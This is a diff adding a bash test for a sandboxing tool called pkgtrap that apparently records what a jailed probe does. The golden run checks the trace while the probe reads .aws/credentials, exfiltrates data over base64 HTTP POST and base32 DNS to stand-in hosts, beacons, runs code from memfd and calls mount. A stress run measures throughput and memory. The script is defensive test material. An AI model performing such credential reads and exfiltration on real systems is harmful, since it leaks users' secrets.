@@ -1,0 +1,60 @@
+#!/bin/bash
+# The recorder, golden: one jailed run in which the probe does known things;
+# the trace must hold exactly the expected events (check_trace.py). Then the
+# multi-threaded stress: 10k stops/s for 10 s lose nothing, and the
+# supervisor's memory stays bounded. ctest runs this inside an outer
+# `unshare --net`.   recorder_test.sh root|rootless [golden|stress]
+set -u
+MODE=${1:-root}
+WHAT=${2:-golden}
+HERE=$(cd "$(dirname "$0")" && pwd)
+source "$HERE/../jail/lib.sh"
+: "${PKGTRAP:?} ${PROBE:?} ${TEST_TMP:?}"
+[ "$(id -u)" = 0 ] || { echo "skip: starts as root (root mode, and runuser for rootless)"; exit 77; }
+PROBE_DIR=$(dirname "$PROBE")
+WORK="$TEST_TMP/recorder-$MODE-$WHAT"
+rm -rf "$WORK"; mkdir -p "$WORK/tmp" "$WORK/out"; chmod 0755 "$TEST_TMP" "$WORK"; chmod 1777 "$WORK/tmp" "$WORK/out"
+export TMPDIR="$WORK/tmp"
+if [ "$MODE" = rootless ]; then
+  AS=(runuser -u nobody -- env "TMPDIR=$TMPDIR" "PKGTRAP_PROFILES=$PKGTRAP_PROFILES")
+else
+  AS=()
+fi
+TRACE="$WORK/out/trace.jsonl"
+P=$PROBE
+
+if [ "$WHAT" = golden ]; then
+  script="/bin/echo hello-argv world
+$P tcp 198.51.100.23 8080 hello-raw-bytes
+$P dns beacon.example.test
+$P http-post api.collector.test /upload form=1
+$P tls cdn.example.test 203.0.113.9 443
+$P read .aws/credentials
+$P leak-b64-post exfil.example.test
+$P leak-b32-dns exfil.invalid
+$P tcp 2001:db8::7 8443 v6-bytes
+$P udp 203.0.113.5 9999 udp-payload
+$P files /tmp
+$P memfd-exec
+$P syscall mount"
+  out=$("${AS[@]}" "$PKGTRAP" run --trace "$TRACE" --ro-bind "$PROBE_DIR" -- /bin/sh -c "$script" 2>&1); rc=$?
+  expect_eq "the golden run exits 0" 0 "$rc"
+  expect_match "the fake HTTP server answered" "reply HTTP/1.1 200 OK" "$out"
+  expect_match "the memfd script ran" "memfd-ran" "$out"
+  if python3 "$HERE/check_trace.py" "$TRACE" "$P"; then ok "trace matches the golden expectations"; else nok "trace matches the golden expectations"; fi
+else
+  # 8 threads, 10 s, 10000 write-opens per second in all: each one stops.
+  /usr/bin/time -f "%M" -o "$WORK/rss" "${AS[@]}" "$PKGTRAP" run --trace "$TRACE" --ro-bind "$PROBE_DIR" --timeout 120 -- "$P" stress 8 10 10000 >"$WORK/out.txt" 2>&1
+  rc=$?
+  expect_eq "the stress run exits 0" 0 "$rc"
+  expect_match "the probe did 100000 opens" "stress opens 100000" "$(cat "$WORK/out.txt")"
+  n=$(grep -c '"path":"/tmp/stress-' "$TRACE")
+  expect_eq "every one of the 100000 stops is in the trace" 100000 "$n"
+  threads=$(grep '"kind":"exit"' "$TRACE" | wc -l)
+  check "the run ended cleanly (exit event recorded)" test "$threads" -ge 1
+  rss_kb=$(tail -1 "$WORK/rss")
+  check "the supervisor's peak RSS stays bounded (${rss_kb} KiB < 40 MiB)" test "${rss_kb:-999999}" -lt 40960
+  echo "# stress: $(grep -o '"t":[0-9.]*' "$TRACE" | tail -1) ms, peak RSS ${rss_kb} KiB"
+fi
+rm -rf "$WORK"
+finish
